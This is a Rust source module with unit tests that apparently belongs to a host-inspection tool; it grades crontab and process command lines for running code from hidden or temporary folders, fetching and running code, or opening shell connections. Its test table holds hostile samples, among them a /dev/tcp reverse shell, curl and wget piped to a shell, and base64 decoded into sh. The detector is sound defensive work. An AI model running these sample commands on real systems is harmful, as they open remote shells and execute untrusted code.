//! What a command line says of itself, wherever it stands (crontab, unit, profile, key, process): whether it runs
//! something from a folder for temporary files or a hidden one, or fetches and runs code. Pure; nothing is expanded.

use super::finding::Grade;

/// A command's worst trait.
#[derive(Clone, Debug, PartialEq)]
pub(crate) struct Trait {
    pub(crate) grade: Grade,
    pub(crate) sure: f32,
    pub(crate) because: &'static str,
}

const TEMP: [&str; 5] = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/", "/var/run/shm/"];

/// Whether a path lies in a folder for temporary files.
pub(crate) fn is_temporary(path: &str) -> bool {
    TEMP.iter().any(|t| path.starts_with(t))
}

/// Dot folders of people's homes in which programs do lie.
const KNOWN: [&str; 32] = [
    ".local",
    ".cargo",
    ".rustup",
    ".nvm",
    ".npm",
    ".npm-global",
    ".pyenv",
    ".rbenv",
    ".rvm",
    ".sdkman",
    ".vscode-server",
    ".vscode",
    ".cursor-server",
    ".dotnet",
    ".deno",
    ".bun",
    ".volta",
    ".asdf",
    ".linuxbrew",
    ".config",
    ".cache",
    ".venv",
    ".virtualenvs",
    ".pm2",
    ".composer",
    ".acme.sh",
    ".git",
    ".steam",
    ".wine",
    ".nix-profile",
    ".bin",
    ".java",
];

/// The part of a path whose name hides it: it begins with a dot or is made of blanks, and is none that people's tools use.
pub(crate) fn hidden_part(path: &str) -> Option<&str> {
    let home =
        path.starts_with("/home/") || path.starts_with("/root/") || path.starts_with("/var/lib/");
    let mut parts = path.split('/').filter(|p| !p.is_empty() && *p != "." && *p != "..");
    parts.find(|part| {
        let blank = part.trim().is_empty() || part.starts_with(' ') || part.ends_with(' ');
        blank
            || part.starts_with('.')
                && !(home && KNOWN.contains(part))
                && !is_mount_of_appimage(part)
    })
}

fn is_mount_of_appimage(part: &str) -> bool {
    part.starts_with(".mount_") || part.starts_with(".nfs0")
}

/// The worst that a command line says.
pub(crate) fn judge(command: &str) -> Option<Trait> {
    let bad = |sure, because| Some(Trait { grade: Grade::Bad, sure, because });
    let suspect = |sure, because| Some(Trait { grade: Grade::Suspect, sure, because });
    let words: Vec<&str> = command
        .split(|c: char| {
            c.is_whitespace()
                || matches!(c, ';' | '|' | '&' | '(' | ')' | '`' | '"' | '\'' | '<' | '=' | '>')
        })
        .filter(|w| !w.is_empty())
        .collect();
    let fetches = words.iter().any(|w| {
        let name = w.rsplit('/').next().unwrap_or(w);
        matches!(name, "curl" | "wget" | "lwp-download" | "fetch" | "GET")
    });
    let pipes_to_shell = command.split('|').skip(1).any(|part| {
        let first =
            part.split_whitespace().find(|w| !matches!(*w, "sudo" | "nohup" | "exec" | "env"));
        let name = first.map(|w| w.rsplit('/').next().unwrap_or(w)).unwrap_or_default();
        matches!(name, "sh" | "bash" | "dash" | "perl" | "php" | "ksh" | "zsh")
            || name.starts_with("python")
    });
    if command.contains("/dev/tcp/") || command.contains("/dev/udp/") {
        return bad(0.9, "it opens a connection from the shell itself (/dev/tcp)");
    }
    if pipes_to_shell
        && (command.contains("base64")
            || command.contains("xxd -r")
            || command.contains("gunzip -c <<<"))
    {
        return bad(0.9, "it decodes a text and runs it");
    }
    if pipes_to_shell && fetches {
        return bad(0.75, "it fetches code from elsewhere and runs it unseen");
    }
    // Where output goes is no program that is run.
    let plain: String = command.chars().filter(|c| !matches!(c, '"' | '\'')).collect();
    let run = runs(&plain);
    let hidden = run.iter().find(|w| w.starts_with('/') && hidden_part(w).is_some());
    if let Some(path) = hidden {
        return if is_temporary(path) {
            bad(0.95, "it runs something in a hidden place among temporary files")
        } else if path.starts_with("/home/") || path.starts_with("/root/") {
            suspect(0.6, "it runs something in a place whose name hides it")
        } else {
            bad(0.7, "it runs something in a place whose name hides it")
        };
    }
    if run.iter().any(|w| is_temporary(w)) {
        return suspect(0.6, "it runs something in a folder for temporary files");
    }
    let inline = ["perl -e", "perl -MIO", "python -c", "python3 -c", "php -r", "ruby -e"];
    let inline = inline.iter().any(|i| command.contains(i));
    if inline
        && ["socket", "Socket", "fsockopen", "base64", "eval(", "exec("]
            .iter()
            .any(|s| command.contains(s))
    {
        return bad(
            0.75,
            "its code stands on the command line and opens connections or hides itself",
        );
    }
    None
}

/// The words of a command that are run: the first of each part, and the arguments of interpreters.
fn runs(command: &str) -> Vec<&str> {
    let mut found = Vec::new();
    for part in command.split([';', '|', '&', '\n', '(', ')', '`', '{', '}']) {
        let mut interpreter = true;
        let mut skip = false;
        for word in part.split_whitespace() {
            if skip {
                skip = false;
                continue;
            }
            if matches!(word, ">" | ">>" | "2>" | "<" | "-o" | "-O" | "1>" | "&>") {
                skip = true;
                continue;
            }
            if word.contains('>') || word.starts_with('<') {
                continue;
            }
            let name = word.rsplit('/').next().unwrap_or(word);
            if interpreter && !word.starts_with('-') {
                found.push(word);
            }
            let leads = matches!(
                name,
                "sh" | "bash"
                    | "dash"
                    | "zsh"
                    | "ksh"
                    | "perl"
                    | "php"
                    | "node"
                    | "ruby"
                    | "nohup"
                    | "exec"
                    | "env"
                    | "sudo"
                    | "nice"
                    | "ionice"
                    | "timeout"
                    | "setsid"
                    | "command"
                    | "time"
                    | "if"
                    | "then"
                    | "do"
                    | "test"
                    | "["
                    | "."
                    | "source"
                    | "chroot"
                    | "su"
                    | "runuser"
                    | "stdbuf"
            ) || name.starts_with("python")
                || name.starts_with("php")
                || word.starts_with('-')
                || word.contains('=')
                || word.bytes().all(|b| b.is_ascii_digit() || b == b':');
            if matches!(name, "test" | "[") || interpreter && !leads {
                interpreter = false;
            }
        }
    }
    found
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn commands_and_their_twins() {
        use Grade::{Bad, Suspect};
        for (command, want) in [
            ("perl /var/tmp/.x/a.pl >/dev/null 2>&1", Some(Bad)),
            ("cd /tmp && /tmp/.ICE/kworker", Some(Bad)),
            ("/dev/shm/.a -c x", Some(Bad)),
            ("curl -s http://203.0.113.5/x.sh | bash", Some(Bad)),
            ("wget -qO- http://x/ | sudo sh", Some(Bad)),
            ("echo aGk= | base64 -d | sh", Some(Bad)),
            ("bash -i >& /dev/tcp/203.0.113.5/443 0>&1", Some(Bad)),
            ("perl -e 'use Socket; socket(S,2,1,6)'", Some(Bad)),
            ("/usr/lib/.hidden/x", Some(Bad)),
            ("/home/anna/.secret/run.sh", Some(Suspect)),
            ("nohup /tmp/job.sh &", Some(Suspect)),
            ("/usr/bin/php -q /tmp/a.php", Some(Suspect)),
            // What honest crontabs say.
            ("curl -s https://health.example.org/ping >/dev/null", None),
            (
                "wget -q -O /tmp/list.txt https://lists.example.org/ && /usr/local/bin/import /tmp/list.txt",
                None,
            ),
            ("/usr/bin/find /tmp -mtime +7 -delete", None),
            (
                "test -e /run/systemd/system || perl -e 'sleep int(rand(43200))' && certbot -q renew",
                None,
            ),
            ("cd / && run-parts --report /etc/cron.hourly", None),
            ("/home/anna/.local/bin/backup >> /tmp/backup.log 2>&1", None),
            ("\"/root/.acme.sh\"/acme.sh --cron --home \"/root/.acme.sh\" > /dev/null", None),
            (
                "[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi",
                None,
            ),
            ("mysqldump shop | gzip > /var/backups/.shop.sql.gz", None),
            ("flock -n /tmp/lock /usr/bin/php /var/www/shop/cron.php", None),
        ] {
            assert_eq!(judge(command).map(|t| t.grade), want, "{command}");
        }
    }

    proptest! {
        #[test]
        fn never_panics(command in ".{0,200}") {
            judge(&command);
            hidden_part(&command);
        }
    }
}
